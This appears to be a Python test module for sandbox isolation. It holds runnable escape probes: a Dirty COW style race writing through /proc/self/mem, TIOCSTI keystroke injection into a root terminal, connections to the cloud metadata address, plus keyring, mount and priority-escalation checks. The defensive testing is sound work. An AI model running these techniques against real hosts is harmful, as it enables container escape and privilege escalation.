"""What a sandbox sees and reaches of the machine: /proc and /sys file by file, mounts, network, keys, shared files.

What may be read stands in a list; everything else that can be read is a finding.
"""

from __future__ import annotations

from typing import Final

import msgspec

from cove.engine.attacks.target import Broken, Target, attempt, python, require, shell, text_of
from cove.model.errors import EngineFailure

VISIBLE: Final = {
    "/proc/cgroups": "names of the kernel's controllers; Java reads it to find its limits",
    "/proc/cmdline": "gVisor's own; empty in containers",
    "/proc/cpuinfo": "the processor, which instructions can be asked for anyway",
    "/proc/devices": "names and numbers of drivers; none of them can be opened",
    "/proc/execdomains": "a constant",
    "/proc/filesystems": "what the kernel could mount; nothing can be mounted",
    "/proc/loadavg": "the machine's load: a neighbour's work can be felt, not seen",
    "/proc/meminfo": "the machine's memory, in all and free",
    "/proc/mounts": "the sandbox's own mounts",
    "/proc/sentry-meminfo": "gVisor's own",
    "/proc/stat": "CPU time of the machine since its boot, and when that was",
    "/proc/sys/abi/": "constants",
    "/proc/sys/debug/": "switches of the kernel, read-only",
    "/proc/sys/dev/": "switches of the kernel, read-only",
    "/proc/sys/fs/": "limits of the kernel, and how many files and inodes are open on the machine",
    "/proc/sys/kernel/": "the kernel's version and switches, the boot id, the path of a handler for core dumps",
    "/proc/sys/net/": "the sandbox's own network namespace",
    "/proc/sys/user/": "limits of the sandbox's own user namespace",
    "/proc/sys/vm/": "switches of the kernel's memory, read-only",
    "/proc/sys/crypto/": "switches of the kernel, read-only",
    "/proc/sysvipc/": "the sandbox's own ipc namespace",
    "/proc/tty/": "kinds of terminals; ps reads it",
    "/proc/uptime": "since when the machine runs",
    "/proc/version": "the kernel's version, which a call tells as well",
    "/sys/devices/system/cpu/": "the processors, their caches and known weaknesses; lscpu, Java and PyTorch read it",
    "/sys/devices/system/node/": "how memory is spread over the processors",
}
"""Path, or folder with a slash at its end, and why it may be seen. `docs/security.md` tells it to people."""

_WALK: Final = """
import json, stat
readable, writable = [], []
null = os.stat("/dev/null").st_rdev
for top in ("/proc", "/sys"):
    for folder, folders, files in os.walk(top, onerror=lambda e: None):
        if folder == "/proc":
            # Of processes there are the sandbox's own alone, and their files belong to them.
            folders[:] = [name for name in folders if not name.isdigit() and name not in ("self", "thread-self")]
        for name in files:
            path = folder + "/" + name
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
                try:
                    if os.read(fd, 64):
                        readable.append(path)
                finally:
                    os.close(fd)
            except OSError:
                pass
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_CLOEXEC)
                try:
                    if os.fstat(fd).st_rdev != null:
                        writable.append(path)
                finally:
                    os.close(fd)
            except OSError:
                pass
print(json.dumps([readable, writable]))
"""


def is_visible(path: str) -> bool:
    """Whether `path` may be read inside."""
    return path in VISIBLE or any(name.endswith("/") and path.startswith(name) for name in VISIBLE)


_OWN: Final = {"/proc/mounts"}
"""Opens for writing as any file of a process's own does, and takes no byte."""


async def _walk(target: Target) -> tuple[list[str], list[str]]:
    async with target.box() as box:
        result = await python(box, _WALK, 60.0)
    try:
        return msgspec.json.decode(result.stdout, type=tuple[list[str], list[str]])
    except msgspec.DecodeError as error:
        seen = result.stderr.decode(errors="replace")[-300:]
        raise EngineFailure("the attack did not run", internal=seen) from error


async def attack_a20_what_can_be_read_of_the_machine(target: Target) -> str:
    """Every file of /proc and /sys, read: what has content and is not on the list of what may be seen is a finding."""
    readable, _ = await _walk(target)
    require(len(readable) > len(VISIBLE), f"only {len(readable)} files were readable: the attack did not run")
    found = [path for path in readable if not is_visible(path)]
    if found:
        raise Broken(f"{len(found)} files tell of the machine and are on no list: {', '.join(found)}")
    return f"{len(readable)} files have content, each on the list of {len(VISIBLE)} that may be seen"


async def attack_a10_what_can_be_written_of_the_machine(target: Target) -> str:
    """Every file of /proc and /sys, opened for writing: none may open, but those of the process itself."""
    _, writable = await _walk(target)
    own_kernel = target.driver.name == "gvisor"
    found = [path for path in writable if path not in _OWN]
    if own_kernel:
        return f"{len(found)} open, all files of the kernel of its own: nothing of them reaches the machine"
    if found:
        raise Broken(f"{len(found)} files open for writing: {', '.join(found)}")
    return "none opens"


_KINDS: Final = {"9p", "devpts", "devtmpfs", "mqueue", "overlay", "proc", "sysfs", "tmpfs"}
_READ_ONLY: Final = ("/sys", "/proc/sys", "/.agent/agent")
_NODES: Final = {"null", "zero", "full", "random", "urandom", "tty"}


def _mount_fault(line: str, host_words: tuple[str, ...]) -> str:
    """What is wrong with a line of mountinfo (proc_pid_mountinfo(5)); empty: nothing."""
    fields, _, rest = line.partition(" - ")
    root, where, options = fields.split()[3:6]
    kind = rest.split()[0]
    told = [word for word in host_words if word in line]
    if told:
        return f"the mount of {where} tells {told}"
    if kind not in _KINDS:
        return f"a {kind} is mounted on {where}"
    if kind == "devtmpfs" and root.lstrip("/") not in _NODES:
        return f"the host's device {root} is mounted on {where}"
    if where.startswith(_READ_ONLY) and "ro" not in options.split(",") and kind != "devtmpfs":
        return f"{where} is mounted for writing"
    return ""


async def attack_a09_mounts_and_their_paths(target: Target) -> str:
    """The mount table: kinds that the host alone may mount, its devices, its paths, what is writable without need."""
    async with target.box() as box:
        words = (str(target.image.rootfs.resolve()), "/var/lib/", "/run/cove", "upperdir=/", "lowerdir=/", box.facts.id)
        table = text_of(await shell(box, "cat /proc/self/mountinfo")).splitlines()
    require(len(table) > 5, "the mount table is empty: the attack did not run")  # noqa: PLR2004 - /, /proc, /dev, /sys
    faults = [fault for line in table if (fault := _mount_fault(line, words))]
    require(not faults, "; ".join(faults))
    return f"{len(table)} mounts, none of them the host's, none with a path of the host"


_OUTSIDE: Final = ("169.254.169.254", "10.0.0.1", "172.17.0.1", "192.168.0.1", "8.8.8.8", "224.0.0.1")

_NETWORK: Final = """
import socket
names = sorted(name for _, name in socket.if_nameindex())
said("held" if set(names) <= INTERFACES else "BROKEN", "interfaces", ",".join(names) or "none")
for family, address in [(socket.AF_INET, a) for a in ADDRESSES] + [(socket.AF_INET6, "fd00:ec2::254")]:
    for kind, port in ((socket.SOCK_STREAM, 80), (socket.SOCK_DGRAM, 53)):
        link = socket.socket(family, kind)
        link.settimeout(2)
        try:
            link.connect((address, port))
            link.send(b"x")
            if kind == socket.SOCK_DGRAM and "eth0" in INTERFACES:
                link.recv(1)  # that kernel takes a datagram which the router drops: only an answer says it arrived
            said("BROKEN", "%s port %d" % (address, port), "was reached")
        except OSError as error:
            said("held", "%s port %d" % (address, port), errno.errorcode.get(error.errno, str(error)))
try:
    rules = open("/etc/resolv.conf").read()
    named = [line.split()[1:] for line in rules.splitlines() if line.startswith("nameserver")]
    held = all(words == ["169.254.1.1"] for words in named)
except OSError:
    held = True
said("held" if held else "BROKEN", "a resolver of the host", "none" if held else str(named))
"""


async def attack_a17_the_network_of_the_host(target: Target) -> str:
    """Interfaces beside loopback, the metadata address, private and public addresses, a resolver of the host."""
    # gVisor's boxes have one of our own from their start, which leads nowhere until a policy says so.
    interfaces = {"lo", "eth0"} if target.driver.name == "gvisor" else {"lo"}
    async with target.box() as box:
        return await attempt(box, f"ADDRESSES = {_OUTSIDE!r}\nINTERFACES = {interfaces!r}\n{_NETWORK}", 60.0)


_TYPE: Final = """
import fcntl, pty, termios
read, write = os.pipe()
leader, follower = os.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
    os.setgid(65534)
    os.setuid(65534)
    libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
    for name, request in (("TIOCSTI", 0x5412), ("TIOCSTI, high bits set", 0x100005412), ("TIOCLINUX", 0x541C)):
        ctypes.set_errno(0)
        answer = libc.ioctl(follower, request, b"x")
        os.write(write, ("%s|%s|%s\\n" % (answer, name, code())).encode())
    os._exit(0)
os.close(write)
os.waitpid(pid, 0)
for line in os.read(read, 4096).decode().splitlines():
    answer, name, why = line.split("|")
    said("held" if answer == "-1" else "BROKEN", name, why if answer == "-1" else "typed into the terminal of root")
"""


async def attack_a16_typing_into_a_shared_terminal(target: Target) -> str:
    """TIOCSTI by nobody on a terminal that its caller, root of the sandbox, goes on to read from."""
    async with target.box() as box:
        return await attempt(box, _TYPE)


_COPY_ON_WRITE: Final = """
import mmap, threading
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for path in ("/etc/passwd", "/usr/bin/env", "/.agent/agent"):
    fd = os.open(path, os.O_RDONLY)
    before = os.pread(fd, 4096, 0)
    try:
        mmap.mmap(fd, len(before), mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        said("BROKEN", path, "is mapped for writing though opened for reading")
    except OSError as error:
        said("held", "shared writable mapping of " + path, errno.errorcode.get(error.errno))
    place = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
    going = True

    def discard():
        while going:
            libc.madvise(place, 4096, 4)

    thread = threading.Thread(target=discard)
    thread.start()
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        for _ in range(ROUNDS):
            os.lseek(memory, place, 0)
            os.write(memory, b"DIRTY-COW")
        os.close(memory)
    except OSError as error:
        said("held", "/proc/self/mem", errno.errorcode.get(error.errno))
    going = False
    thread.join()
    after = os.pread(os.open(path, os.O_RDONLY), 4096, 0)
    said("held" if after == before else "BROKEN", path, "as it was" if after == before else "has changed")
"""
_ROUNDS: Final = 2000


async def attack_s01_copy_on_write_of_shared_files(target: Target) -> str:
    """The way of Dirty COW: writing into a private mapping of a shared read-only file while its pages are discarded."""
    victim = target.image.rootfs / "etc" / "passwd"
    before = victim.read_bytes()
    async with target.box() as box, target.box() as other:
        held = await attempt(box, f"ROUNDS = {_ROUNDS}\n{_COPY_ON_WRITE}", 60.0)
        seen = await shell(other, "cat /etc/passwd")
    require(seen.stdout == before == victim.read_bytes(), "the shared file has changed")
    return held


async def attack_a13_keyrings(target: Target) -> str:
    """Keys of the host and of neighbours: /proc/keys, and each way to a keyring (join, search, describe, add)."""
    async with target.box() as box:
        return await attempt(
            box,
            """
for number, name in enumerate(("join", "update", "revoke", "describe", "clear", "link", "search", "read")):
    must_fail("keyctl " + name, 250 if X86 else 219, number, -3, 0, 0)
must_fail("add_key", 248 if X86 else 217, b"user", b"x", b"y", 1, -3)
must_fail("request_key", 249 if X86 else 218, b"user", b"x", 0, -3)
for path in ("/proc/keys", "/proc/key-users"):
    must_not_open(path, os.O_RDONLY)
""",
        )


_PRIORITY: Final = """
import resource

def must_not_raise(what, change, *arguments):
    try:
        change(*arguments)
    except (OSError, ValueError) as error:
        return said("held", what, errno.errorcode.get(getattr(error, "errno", None), str(error)))
    return said("OWN" if OWN_KERNEL else "BROKEN", what, "was granted")

must_not_raise("nice -20", os.setpriority, os.PRIO_PROCESS, 0, -20)
for name, policy in (("FIFO", os.SCHED_FIFO), ("RR", os.SCHED_RR)):
    must_not_raise("scheduling " + name, os.sched_setscheduler, 0, policy, os.sched_param(50))
attributes = ctypes.create_string_buffer(struct.pack("<IIQiIQQQ", 48, 6, 0, 0, 0, 10**7, 10**8, 10**8))
if libc.syscall(ctypes.c_long(314 if X86 else 274), ctypes.c_long(0), attributes, ctypes.c_long(0)) != -1:
    said("BROKEN", "scheduling DEADLINE", "was granted")
def protect():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
must_not_raise("protection from the out-of-memory killer", protect)
for name in sorted(n for n in dir(resource) if n.startswith("RLIMIT_")):
    number = getattr(resource, name)
    soft, hard = resource.getrlimit(number)
    if hard != resource.RLIM_INFINITY:
        must_not_raise(name + " above its %d" % hard, resource.setrlimit, number, (hard + 1, hard + 1))
said("held" if resource.getrlimit(resource.RLIMIT_NOFILE)[1] <= 65536 else "BROKEN", "RLIMIT_NOFILE", "bounded")
"""


async def attack_c40_priority_over_others(target: Target) -> str:
    """Real-time scheduling, negative nice, protection from the out-of-memory killer, every resource limit raised."""
    own_kernel = target.driver.name == "gvisor"
    async with target.box() as box:
        result = await python(box, f"OWN_KERNEL = {own_kernel}\n{_PRIORITY}")
    lines = text_of(result).splitlines()
    # What gVisor grants, it grants among the box's own processes: the sentry's threads on the host stay what they are.
    broken = [line for line in lines if not line.startswith(("held ", "OWN "))]
    require(lines and not broken and result.exit.code == 0, "; ".join(broken) or text_of(result))
    return "; ".join(line.partition(" ")[2] for line in lines)
